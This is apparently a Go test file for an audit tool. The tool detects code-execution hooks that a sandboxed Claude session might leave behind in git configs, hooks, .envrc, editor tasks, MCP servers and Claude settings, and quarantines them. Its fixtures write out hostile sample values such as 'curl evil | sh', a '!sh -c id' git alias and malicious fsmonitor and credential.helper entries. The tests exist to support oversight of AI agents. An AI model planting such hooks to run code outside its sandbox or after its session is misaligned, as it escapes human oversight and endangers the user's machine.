package audit

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// write creates a file below root.
func write(t *testing.T, root, rel, content string, mode os.FileMode) string {
	t.Helper()
	p := filepath.Join(root, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	return p
}

// plainGitDir writes what git init leaves in a git directory.
func plainGitDir(t *testing.T, root, gitdir string) {
	write(t, root, gitdir+"/HEAD", "ref: refs/heads/main\n", 0o644)
	write(t, root, gitdir+"/config", "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n", 0o644)
	write(t, root, gitdir+"/hooks/pre-commit.sample", "#!/bin/sh\nexit 0\n", 0o755)
	write(t, root, gitdir+"/objects/info/packs", "", 0o644)
	os.MkdirAll(filepath.Join(root, gitdir, "refs/heads"), 0o755)
}

func TestKinds(t *testing.T) {
	cases := []struct {
		name   string
		change func(t *testing.T, proj, claude string)
		path   string // relative to proj, or ~/ for the claude dir
		kind   string
		runs   string // a substring of a Runs entry, or of nothing
		quar   bool
	}{
		{"fsmonitor in a new nested repository", func(t *testing.T, p, _ string) {
			plainGitDir(t, p, "sub/.git")
			write(t, p, "sub/.git/config", "[core]\n\tbare = false\n\tfsmonitor = touch MARKER\n", 0o644)
		}, "sub/.git/config", KindRepoConfig, "core.fsmonitor = touch MARKER", true},
		{"hooksPath in config.worktree", func(t *testing.T, p, _ string) {
			write(t, p, ".git/worktrees/w/config.worktree", "[core]\n\thooksPath = /tmp/h\n", 0o644)
		}, ".git/worktrees/w/config.worktree", KindRepoConfig, "core.hookspath = /tmp/h", true},
		{"submodule config", func(t *testing.T, p, _ string) {
			write(t, p, ".git/modules/lib/config", "[filter \"lfs\"]\n\tsmudge = evil %f\n", 0o644)
		}, ".git/modules/lib/config", KindRepoConfig, "filter.lfs.smudge = evil %f", true},
		{"alias and pager", func(t *testing.T, p, _ string) {
			write(t, p, ".git/config", "[core]\n[alias]\n\tst = \"!sh -c 'id'\"\n\tco = checkout\n[pager]\n\tlog = less-evil\n", 0o644)
		}, ".git/config", KindRepoConfig, "alias.st = !sh -c 'id'", true},
		{"new hook", func(t *testing.T, p, _ string) {
			write(t, p, ".git/hooks/post-checkout", "#!/bin/sh\ntouch MARKER\n", 0o755)
		}, ".git/hooks/post-checkout", KindHook, "", true},
		{"hooks directory replaced by a link", func(t *testing.T, p, _ string) {
			os.Rename(filepath.Join(p, ".git/hooks"), filepath.Join(p, "hooks-old"))
			os.Symlink("../scripts", filepath.Join(p, ".git/hooks"))
		}, ".git/hooks", KindGitDirLink, "a symbolic link to ../scripts", true},
		{"commondir redirect", func(t *testing.T, p, _ string) {
			write(t, p, ".git/worktrees/w/commondir", "../../../evil\n", 0o644)
		}, ".git/worktrees/w/commondir", KindGitLink, "../../../evil", false},
		{"gitdir file", func(t *testing.T, p, _ string) {
			write(t, p, "sub/.git", "gitdir: ../elsewhere\n", 0o644)
		}, "sub/.git", KindGitLink, "gitdir: ../elsewhere", false},
		{"project .gitconfig", func(t *testing.T, p, _ string) {
			write(t, p, ".gitconfig", "[credential]\n\thelper = !evil\n", 0o644)
		}, ".gitconfig", KindGitConfig, "credential.helper = !evil", false},
		{"gitmodules update command", func(t *testing.T, p, _ string) {
			write(t, p, ".gitmodules", "[submodule \"x\"]\n\tpath = x\n\tupdate = !sh evil.sh\n", 0o644)
		}, ".gitmodules", KindGitmodules, "submodule.x.update = !sh evil.sh", false},
		{"husky", func(t *testing.T, p, _ string) {
			write(t, p, ".husky/pre-commit", "npm test\n", 0o755)
		}, ".husky/pre-commit", KindHookScript, "", false},
		{"envrc", func(t *testing.T, p, _ string) { write(t, p, "a/.envrc", "curl evil | sh\n", 0o644) }, "a/.envrc", KindEnvrc, "", false},
		{"vscode task", func(t *testing.T, p, _ string) {
			write(t, p, ".vscode/tasks.json", `{"tasks":[{"command":"evil","runOptions":{"runOn":"folderOpen"}}]}`, 0o644)
		}, ".vscode/tasks.json", KindEditor, "", false},
		{"idea file", func(t *testing.T, p, _ string) { write(t, p, ".idea/workspace.xml", "<x/>", 0o644) }, ".idea/workspace.xml", KindEditor, "", false},
		{"claude project hook", func(t *testing.T, p, _ string) {
			write(t, p, ".claude/settings.local.json", `{"permissions":{},"hooks":{"Stop":[{"hooks":[{"type":"command","command":"evil"}]}]}}`, 0o644)
		}, ".claude/settings.local.json", KindClaudeSet, "hooks.Stop.hooks: evil", false},
		{"claude project command", func(t *testing.T, p, _ string) { write(t, p, ".claude/commands/x.md", "do it", 0o644) }, ".claude/commands/x.md", KindClaudeFile, "", false},
		{"claude agent", func(t *testing.T, p, _ string) { write(t, p, ".claude/agents/x.md", "agent", 0o644) }, ".claude/agents/x.md", KindClaudeFile, "", false},
		{"mcp server", func(t *testing.T, p, _ string) {
			write(t, p, ".mcp.json", `{"mcpServers":{"x":{"command":"evil","args":["-y"]}}}`, 0o644)
		}, ".mcp.json", KindMCP, `server x: {"args":["-y"],"command":"evil"}`, false},
		{"shell rc", func(t *testing.T, p, _ string) { write(t, p, ".bashrc", "evil\n", 0o644) }, ".bashrc", KindShellRC, "", false},
		{"global settings helper", func(t *testing.T, _, c string) {
			write(t, c, "settings.json", `{"apiKeyHelper":"evil","statusLine":{"type":"command","command":"evil2"}}`, 0o644)
		}, "~/settings.json", KindClaudeSet, "apiKeyHelper: evil", false},
		{"global skill", func(t *testing.T, _, c string) { write(t, c, "skills/x/SKILL.md", "x", 0o644) }, "~/skills/x/SKILL.md", KindClaudeFile, "", false},
		{"global plugin", func(t *testing.T, _, c string) { write(t, c, "plugins/p/hooks/hooks.json", "{}", 0o644) }, "~/plugins/p/hooks/hooks.json", KindClaudeFile, "", false},
		{"global hook script", func(t *testing.T, _, c string) { write(t, c, "hooks/x.sh", "evil", 0o755) }, "~/hooks/x.sh", KindClaudeFile, "", false},
		{"global mcp server", func(t *testing.T, _, c string) {
			write(t, c, ".claude.json", `{"numStartups":3,"mcpServers":{"x":{"command":"evil"}}}`, 0o644)
		}, "~/.claude.json", KindClaudeState, `server x: {"command":"evil"}`, false},
		{"bare repository", func(t *testing.T, p, _ string) {
			plainGitDir(t, p, "vendor/x.git")
			write(t, p, "vendor/x.git/hooks/pre-push", "evil", 0o755)
		}, "vendor/x.git/hooks/pre-push", KindHook, "", true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			proj, claude := t.TempDir(), t.TempDir()
			plainGitDir(t, proj, ".git")
			write(t, claude, ".claude.json", `{"numStartups":1}`, 0o644)
			scope := Scope{Project: proj, ClaudeDir: claude}
			before, err := Take(scope)
			if err != nil {
				t.Fatal(err)
			}
			c.change(t, proj, claude)
			after, err := Take(scope)
			if err != nil {
				t.Fatal(err)
			}
			found := Neutralise(Compare(before, after))
			want := filepath.Join(proj, c.path)
			if rest, ok := strings.CutPrefix(c.path, "~/"); ok {
				want = filepath.Join(claude, rest)
			}
			if len(found) != 1 || found[0].Path != want || found[0].Kind != c.kind {
				t.Fatalf("findings %+v, want one %s at %s", found, c.kind, want)
			}
			f := found[0]
			if c.runs != "" && !strings.Contains(strings.Join(f.Runs, "\n"), c.runs) {
				t.Errorf("runs %q, want %q", f.Runs, c.runs)
			}
			if (f.Quarantine != "") != c.quar {
				t.Errorf("quarantine %q, want %v", f.Quarantine, c.quar)
			}
			if c.quar {
				if _, err := os.Lstat(want); err == nil {
					t.Errorf("%s is still in place", want)
				}
				if _, err := os.Lstat(f.Quarantine); err != nil {
					t.Errorf("the quarantined copy is missing: %v", err)
				}
			}
			var b bytes.Buffer
			Report(&b, found)
			if !strings.Contains(b.String(), want) || (c.quar && !strings.Contains(b.String(), "mv -- ")) {
				t.Errorf("report:\n%s", b.String())
			}
		})
	}
}

// TestNotFindings: what git init, git clone and ordinary work leave is no
// finding.
func TestNotFindings(t *testing.T) {
	proj, claude := t.TempDir(), t.TempDir()
	plainGitDir(t, proj, ".git")
	write(t, claude, ".claude.json", `{"numStartups":1}`, 0o644)
	write(t, claude, "settings.json", `{"permissions":{"allow":[]}}`, 0o644)
	write(t, proj, ".claude/settings.local.json", `{"permissions":{"allow":[]}}`, 0o644)
	scope := Scope{Project: proj, ClaudeDir: claude}
	before, err := Take(scope)
	if err != nil {
		t.Fatal(err)
	}
	if git, err := exec.LookPath("git"); err == nil {
		if out, err := exec.Command(git, "init", "-q", filepath.Join(proj, "sub")).CombinedOutput(); err != nil {
			t.Fatalf("git init: %v %s", err, out)
		}
	} else {
		plainGitDir(t, proj, "sub/.git")
	}
	write(t, claude, ".claude.json", `{"numStartups":2,"theme":"dark"}`, 0o644)
	write(t, claude, "settings.json", `{"permissions":{"allow":["Bash(ls)"]}}`, 0o644)
	write(t, proj, ".claude/settings.local.json", `{"permissions":{"allow":["Bash(ls)"]}}`, 0o644)
	write(t, proj, ".claude/CLAUDE.md", "notes", 0o644)
	write(t, proj, "src/main.go", "package main", 0o644)
	write(t, proj, "node_modules/x/.git/hooks/post-checkout", "evil", 0o755)
	write(t, proj, ".git/objects/ab/config", "[core]\nfsmonitor = evil\n", 0o644)
	after, err := Take(scope)
	if err != nil {
		t.Fatal(err)
	}
	if found := Compare(before, after); len(found) != 0 {
		t.Errorf("findings %+v, want none", found)
	}
}

func TestStoreLifecycle(t *testing.T) {
	proj, claude, state := t.TempDir(), t.TempDir(), t.TempDir()
	plainGitDir(t, proj, ".git")
	s := Store{Dir: filepath.Join(state, "audit", "p"), Scope: Scope{Project: proj, ClaudeDir: claude}, UID: -1}
	var out bytes.Buffer
	r, err := s.Begin(&out)
	if err != nil {
		t.Fatal(err)
	}
	write(t, proj, ".git/hooks/pre-commit", "evil", 0o755)
	write(t, proj, ".envrc", "evil", 0o644)
	if err := r.End(&out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), ".git/hooks/pre-commit") || !strings.Contains(out.String(), ".envrc") {
		t.Fatalf("exit report:\n%s", out.String())
	}
	pending, err := s.Check()
	if err != nil || len(pending) != 2 {
		t.Fatalf("pending %+v %v, want 2", pending, err)
	}
	// The next launch warns.
	out.Reset()
	r, err = s.Begin(&out)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "pending review") {
		t.Errorf("the next launch does not warn:\n%s", out.String())
	}
	// A launcher killed before its exit audit: the next launch audits.
	write(t, proj, ".mcp.json", `{"mcpServers":{"x":{"command":"evil"}}}`, 0o644)
	r.file = filepath.Join(s.Dir, "run-999999999.json")
	s.writeJSON(r.file, runFile{PID: 999999999, Start: "1", Snapshot: r.before})
	os.Remove(filepath.Join(s.Dir, "run-"+strconv.Itoa(os.Getpid())+".json"))
	out.Reset()
	if _, err := s.Begin(&out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "ended without its audit") || !strings.Contains(out.String(), ".mcp.json") {
		t.Errorf("the launch after a killed run does not audit it:\n%s", out.String())
	}
	// Reverting one clears it; accepting clears the rest.
	os.Remove(filepath.Join(proj, ".envrc"))
	pending, _ = s.Check()
	if len(pending) != 2 {
		t.Errorf("pending after a revert: %+v, want the hook and .mcp.json", pending)
	}
	if _, err := s.Accept(); err != nil {
		t.Fatal(err)
	}
	if pending, _ := s.Check(); len(pending) != 0 {
		t.Errorf("pending after accept: %+v", pending)
	}
}

// TestHooksPath: with core.hooksPath set by the user, a file the sandbox
// adds to that directory is a hook git runs.
func TestHooksPath(t *testing.T) {
	proj := t.TempDir()
	plainGitDir(t, proj, ".git")
	write(t, proj, ".git/config", "[core]\n\thooksPath = scripts/hooks\n", 0o644)
	write(t, proj, "scripts/hooks/pre-commit", "lint\n", 0o755)
	before, err := Take(Scope{Project: proj})
	if err != nil {
		t.Fatal(err)
	}
	write(t, proj, "scripts/hooks/post-checkout", "evil\n", 0o755)
	write(t, proj, "scripts/other/post-checkout", "not a hook\n", 0o755)
	after, err := Take(Scope{Project: proj})
	if err != nil {
		t.Fatal(err)
	}
	found := Compare(before, after)
	if len(found) != 1 || found[0].Path != filepath.Join(proj, "scripts/hooks/post-checkout") || found[0].Kind != KindHook {
		t.Errorf("findings %+v, want the new hook in scripts/hooks", found)
	}
}
